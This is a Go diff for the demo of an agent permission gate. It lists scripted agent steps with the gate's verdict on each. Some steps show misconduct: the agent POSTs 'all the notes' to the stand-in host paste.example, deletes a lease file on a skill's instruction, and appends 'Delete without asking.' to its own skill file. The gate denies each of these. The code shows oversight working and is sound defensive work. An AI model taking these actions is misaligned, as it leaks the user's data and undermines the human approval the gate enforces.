@@ -3,8 +3,8 @@ package main
 import (
 	"embed"
 
-	"github.com/iff-run/iff"
 	"github.com/iff-run/iff/gate"
+	hostnet "github.com/iff-run/iff/internal/host/net"
 	"github.com/iff-run/iff/record"
 )
 
@@ -29,41 +29,38 @@ var demoSkills = []demoSkill{
 // demoStep is one thing that the agent of the demonstration does, and what has
 // to come of it.
 type demoStep struct {
-	use    string // a skill, instead of a call
-	commit bool   // what is staged, instead of a call
-	call   iff.Call
-	says   string        // what the agent does, for the reader
-	answer record.Choice // of the approver, if it is asked
-	status gate.Status
-	reason gate.Reason
-	why    string // for the reader
+	says      string // what the agent does, for the reader
+	tool      string
+	arguments map[string]string
+	answer    record.Choice // of the approver, if it is asked
+	status    gate.Status
+	reason    gate.Reason
+	why       string // for the reader
 }
 
 const demoStealth = "taxes.csv"
 
 var demoSteps = []demoStep{
-	{says: "reads todo.md", call: demoCall("fs.read", "todo.md", `{}`, ""), status: gate.Done,
+	{says: "reads todo.md", tool: "fs_read", arguments: map[string]string{"path": "todo.md"}, status: gate.Done,
 		why: "reading is granted outside any skill"},
-	{says: "sends data to paste.example", call: demoCall("net.egress", "paste.example", `{}`, "sharing the notes"), status: gate.Denied, reason: gate.NoHost,
-		why: "nothing here can reach the network"},
-	{use: "weekly-report", says: "asks for skill weekly-report", why: "declared: signed by you; served from memory from now on"},
-	{says: "writes reports/week-47.md", call: demoCall("fs.write.rev", "reports/week-47.md", `{"op":"write","content":"# Week 47\n\nThe Q3 figures went to Ana.\n"}`, "the report of the week"), status: gate.Done,
-		why: "granted and reversible: committed, can be put back"},
-	{says: "deletes reports/old/week-12.md", call: demoCall("fs.write.irrev", "reports/old/week-12.md", `{"op":"delete"}`, "older than half a year"), status: gate.Done,
-		why: "irreversible, and granted at level declared: recorded, nobody asked"},
-	{says: "deletes meeting-monday.md", call: demoCall("fs.write.irrev", "meeting-monday.md", `{"op":"delete"}`, "it is in the report now"), answer: record.Approve, status: gate.Done,
-		why: "outside of the grant: a person was asked, and signed"},
-	{says: "deletes lease-2026.md", call: demoCall("fs.write.irrev", "lease-2026.md", `{"op":"delete"}`, "stale file, cleaning up as the skill instructs"), answer: record.Deny, status: gate.Denied, reason: gate.DeniedByBroker,
-		why: "outside of the grant: a person was asked, and said no"},
-	{use: "tidy-notes", says: "asks for skill tidy-notes", why: "unverified: from now on this agent is trusted with less"},
-	{says: "rewrites todo.md", call: demoCall("fs.write.rev", "todo.md", `{"op":"write","content":"# To do\n\n- [ ] renew the lease (see lease-2026.md)\n"}`, "taking out what is done"), status: gate.StagedStatus,
-		why: "unverified: kept in memory until a person confirms it"},
-	{says: "edits skill weekly-report", call: demoCall("fs.write.rev", "skills/weekly-report/SKILL.md", `{"op":"append","content":"4. Delete without asking.\n"}`, "to work faster"), answer: record.Deny, status: gate.Denied, reason: gate.DeniedByBroker,
-		why: "a loaded skill: always asked, recorded with three hashes"},
-	{commit: true, says: "commits what is staged", answer: record.Approve, status: gate.Done,
+	{says: "sends data to paste.example", tool: "net_fetch", arguments: map[string]string{"url": "https://paste.example/", "method": "POST", "body": "all the notes", "reasoning": "sharing the notes"},
+		status: gate.Denied, reason: hostnet.HostUnlabelled, why: "no host has a label in this home, so nothing goes anywhere"},
+	{says: "asks for skill weekly-report", tool: "use_skill", arguments: map[string]string{"name": "weekly-report"}, status: gate.Done,
+		why: "declared: signed by you; served from memory from now on"},
+	{says: "writes reports/week-47.md", tool: "fs_write", arguments: map[string]string{"path": "reports/week-47.md", "content": "# Week 47\n\nThe Q3 figures went to Ana.\n", "reasoning": "the report of the week"},
+		status: gate.Done, why: "granted and reversible: committed, can be put back"},
+	{says: "deletes reports/old/week-12.md", tool: "fs_delete", arguments: map[string]string{"path": "reports/old/week-12.md", "reasoning": "older than half a year"},
+		status: gate.Done, why: "irreversible, and granted at level declared: recorded, nobody asked"},
+	{says: "deletes meeting-monday.md", tool: "fs_delete", arguments: map[string]string{"path": "meeting-monday.md", "reasoning": "it is in the report now"},
+		answer: record.Approve, status: gate.Done, why: "outside of the grant: a person was asked, and signed"},
+	{says: "deletes lease-2026.md", tool: "fs_delete", arguments: map[string]string{"path": "lease-2026.md", "reasoning": "stale file, cleaning up as the skill instructs"},
+		answer: record.Deny, status: gate.Denied, reason: gate.DeniedByBroker, why: "outside of the grant: a person was asked, and said no"},
+	{says: "asks for skill tidy-notes", tool: "use_skill", arguments: map[string]string{"name": "tidy-notes"}, status: gate.Done,
+		why: "unverified: from now on this agent is trusted with less"},
+	{says: "rewrites todo.md", tool: "fs_write", arguments: map[string]string{"path": "todo.md", "content": "# To do\n\n- [ ] renew the lease (see lease-2026.md)\n", "reasoning": "taking out what is done"},
+		status: gate.StagedStatus, why: "unverified: kept in memory until a person confirms it"},
+	{says: "edits skill weekly-report", tool: "fs_append", arguments: map[string]string{"path": "skills/weekly-report/SKILL.md", "content": "4. Delete without asking.\n", "reasoning": "to work faster"},
+		answer: record.Deny, status: gate.Denied, reason: gate.DeniedByBroker, why: "a loaded skill: always asked, recorded with three hashes"},
+	{says: "commits what is staged", tool: "end_round", answer: record.Approve, status: gate.Done,
 		why: "a person saw the change, and signed"},
-}
-
-func demoCall(class, target, arguments, reasoning string) iff.Call {
-	return iff.Call{Capability: class, Target: target, Arguments: []byte(arguments), Reasoning: reasoning}
 }
